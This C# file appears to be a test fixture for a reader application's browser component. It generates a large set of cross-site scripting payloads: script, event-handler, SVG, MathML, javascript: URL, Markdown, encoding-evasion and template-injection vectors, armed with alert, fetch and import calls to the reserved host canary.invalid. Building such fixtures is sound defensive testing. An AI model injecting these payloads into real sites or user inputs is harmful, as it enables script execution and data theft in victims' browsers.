using System.Text.Json;
using AllianceReader.Support;

namespace AllianceReader.Browser.Tests;

/// <summary>Some two thousand texts that run a script, or fetch something, wherever a page lets one of them through.</summary>
internal static class AttackStrings
{
    /// <summary>Nobody has it (RFC 2606); what asks for it has been fooled.</summary>
    public const string Elsewhere = "canary.invalid";

    private static readonly string[] Scripts = ["alert(1)", $"fetch(`//{Elsewhere}/`)", $"import(`//{Elsewhere}/a.js`)"];

    // What ends whatever the text may stand in.
    private static readonly string[] Ways = ["", "\">", "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`-", "\u2028", "*a* [b](c) "];

    // @ stands for the script.
    private static readonly string[] Vectors =
    [
        "<script>@</script>", "<script src=//HOST/a.js></script>", "<img src=x onerror=@>", "<img src=x onerror=\"@\">", "<img/src=x/onerror=@>", "<svg onload=@>", "<svg><script>@</script></svg>",
        "<svg><animate onbegin=@ attributeName=x dur=1s>", "<svg><style><img src=x onerror=@></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=@>", "<math href=javascript:@>x</math>",
        "<iframe srcdoc=\"<script>parent.@</script>\">", "<iframe src=javascript:@>", "<iframe src=//HOST/>", "<a href=javascript:@>x</a>", "<a href=\"java&#x09;script:@\">x</a>", "<details open ontoggle=@><summary>x</summary></details>",
        "<body onload=@>", "<input autofocus onfocus=@>", "<video><source onerror=@></video>", "<audio src=x onerror=@>", "<xmp><img src=x onerror=@></xmp>", "<noscript><p title=\"</noscript><img src=x onerror=@>\">",
        "<template><img src=x onerror=@></template>", "<plaintext><img src=x onerror=@>", "<link rel=stylesheet href=//HOST/a.css>", "<style>@import '//HOST/a.css';</style>", "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
        "<meta http-equiv=refresh content=\"0;url=//HOST/\">", "<base href=//HOST/>", "<object data=javascript:@></object>", "<embed src=//HOST/>", "<form action=javascript:@><button>x</button></form>", "<button formaction=javascript:@>x</button>",
        "<marquee onstart=@>x</marquee>", "<div style=\"background:url(//HOST/a.png)\">x</div>", "<p style=animation-name:x onanimationstart=@>x</p>", "<x onclick=@ id=x tabindex=1 onfocus=@ autofocus>x</x>",
        "[x](javascript:@)", "[x](<javascript:@>)", "[x](java\tscript:@)", "[x](data:text/html,<script>@</script>)", "![x](http://HOST/a.png)", "![x](x\" onerror=\"@)", "[x]: javascript:@\n[x]", "<javascript:@>", "# h {onclick=@}",
        "| a |\n| - |\n| <img src=x onerror=@> |", "&lt;img src=x onerror=@&gt;", "&#60;script&#62;@&#60;/script&#62;", "\\u003cscript\\u003e@\\u003c/script\\u003e", "＜script＞@＜/script＞", "{{constructor.constructor('@')()}}", "${@}", "<%= @ %>",
        "<scr<script>ipt>@</scr</script>ipt>", "<!--[if IE]><script>@</script><![endif]-->", "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">@</x:script>",
    ];

    /// <summary>Those of the public list of naughty strings included, where it lies on this machine.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. (from vector in Vectors from script in Scripts from way in Ways select way + Armed(vector, script)).Distinct(),
        .. Naughty(),
    ];

    /// <summary>Each once, to stand in a page that is taken in.</summary>
    public static IReadOnlyList<string> InPages { get; } = [.. Vectors.Select(vector => Armed(vector, Scripts[0]))];

    private static string Armed(string vector, string script) => vector.Replace("@", script, StringComparison.Ordinal).Replace("HOST", Elsewhere, StringComparison.Ordinal);

    private static IEnumerable<string> Naughty() => File.Exists(Path.Combine(Repository.Shared, "kits", "hostile", "blns.json"))
        ? JsonSerializer.Deserialize<string[]>(File.ReadAllText(Path.Combine(Repository.Shared, "kits", "hostile", "blns.json")))!.Where(text => !string.IsNullOrWhiteSpace(text))
        : [];
}
